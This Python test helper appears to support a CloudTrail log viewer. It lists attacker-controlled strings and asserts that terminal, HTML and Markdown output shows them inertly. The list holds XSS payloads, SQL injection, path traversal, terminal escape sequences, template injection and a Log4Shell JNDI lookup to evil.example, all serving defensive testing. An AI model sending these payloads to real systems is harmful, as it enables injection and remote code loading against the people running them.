"""Hostile strings: what an attacker can put in any CloudTrail field (user agents, session names...)."""

from __future__ import annotations

import re

HOSTILE: tuple[str, ...] = (
    "[bold red]PWN_MARKUP[/bold red]",
    "[link=http://evil.example/]PWN_LINK[/link]",
    "\x1b[31mPWN_CSI\x1b[0m",
    "\x1b[2J\x1b[HPWN_CLEAR",
    "\x1b]8;;http://evil.example/\x1b\\PWN_OSC8\x1b]8;;\x1b\\",
    "\x1b]0;PWN_TITLE0\x07",
    "\x1b]2;PWN_TITLE2\x1b\\",
    "\x9b31mPWN_C1CSI",
    "\x85\x8d\x90PWN_C1",
    "\u202ePWN_BIDI\u202c\u2066x\u2069",
    "line1\rPWN_CR\x08\x08\x07",
    '<script>alert("PWN_XSS")</script>',
    "<img src=x onerror=alert(1)>PWN_IMG",
    '"><svg onload=alert(1)>',
    "[x](http://evil.example/PWN_MDLINK)",
    "![x](http://evil.example/PWN_MDIMG.png)",
    "| PWN | table | --- |",
    "`PWN_CODE` ```",
    "'; DROP TABLE events; --",
    '" OR 1=1 --',
    "../../etc/passwd",
    "{{ 7*7 }}{% raw %}PWN_JINJA",
    "${jndi:ldap://evil.example/a}",
)
COMBINED = " ~ ".join(HOSTILE)

_FORBIDDEN_TERMINAL = re.compile(r"[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def assert_terminal_inert(text: str) -> None:
    """No control sequence survives, and rich markup in the data is printed literally, never applied."""
    bad = _FORBIDDEN_TERMINAL.search(text)
    assert bad is None, (
        f"control character {bad.group()!r} reached the terminal: {text[max(0, bad.start() - 60) : bad.end() + 60]!r}"
    )
    flat = "".join(text.split())  # rich may wrap long values
    if "PWN_MARKUP" in flat:
        assert "red]PWN_MARKUP" in flat, "rich markup from the data was interpreted"
    if "PWN_LINK" in flat:
        assert "]PWN_LINK" in flat, "a [link=...] from the data was interpreted"


def assert_html_inert(html: str) -> None:
    low = html.lower()
    assert 'alert("pwn_xss")</script>' not in low
    assert "<img src=x onerror" not in low
    assert "<svg onload" not in low
    assert "\x1b" not in html
    assert 'href="http://evil.example' not in low and 'src="http://evil.example' not in low


def assert_markdown_inert(md: str) -> None:
    """Outside code spans (where CommonMark shows text literally), no raw HTML and no active link/image."""
    prose = re.sub(r"`[^`\n]*`", "", md)
    for raw in ("[x](http://evil.example/PWN_MDLINK)", "![x](http://evil.example/PWN_MDIMG.png)"):
        assert raw not in prose, f"an active Markdown link/image from the data: {raw}"
    low = prose.lower()
    assert "<script" not in low and "<img src=x" not in low and "<svg" not in low
    assert "\x1b" not in md
